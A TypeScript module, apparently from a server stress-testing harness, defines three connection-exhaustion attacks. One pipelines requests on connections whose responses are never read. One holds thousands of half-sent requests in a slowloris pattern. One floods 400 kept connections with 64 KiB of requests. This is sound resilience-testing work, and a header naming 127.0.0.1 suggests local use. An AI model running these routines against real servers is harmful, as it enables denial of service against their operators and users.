import type { Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import type { Attack } from './target.ts'
import { atPace, holdConnections, openConnection, requestText } from './traffic.ts'

const [CONNECTIONS, PIPELINED, HELD_MS] = [5, 1_400, 10_000]

/** Requests the same page 1,400 times on each of five connections (300 KB sent) and reads no response. */
export const unreadPages: Attack = () => async (target, count) => {
  const text = requestText({ method: 'GET', path: '/spec.json' }).repeat(PIPELINED)
  for (;;) {
    const sockets = Array.from({ length: CONNECTIONS }, () =>
      openConnection(target, count, { text, onFirst: (socket) => socket.pause() }),
    )
    await sleep(HELD_MS)
    for (const socket of sockets) socket.destroy()
  }
}

/** 5,100 connections of one address, each in the middle of a request. */
export const halfRequests: Attack = () => (target, count) =>
  holdConnections(target, count, { most: 5_100, text: () => 'POST /api/v1/orders HTTP/1.1\r\nHost: 127.0.0.1\r\n' })

const [KEPT, AHEAD_BYTES, PAUSE_MS] = [400, 64 * 1024, 1_000]

/** Keeps 400 connections, and sends 64 KiB of requests on all of them at once. */
export const sentAhead: Attack = () => async (target, count) => {
  const text = requestText({ method: 'GET', path: '/ping' })
  const ahead = text.repeat(Math.floor(AHEAD_BYTES / text.length))
  for (;;) {
    const kept: Socket[] = []
    const open = async () => {
      openConnection(target, count, { text, onFirst: (socket) => kept.push(socket.resume()) })
    }
    await atPace({ perSecond: KEPT, most: KEPT, times: KEPT }, open)
    await sleep(PAUSE_MS)
    for (const socket of kept) socket.write(ahead)
    await sleep(PAUSE_MS)
    for (const socket of kept) socket.destroy()
  }
}
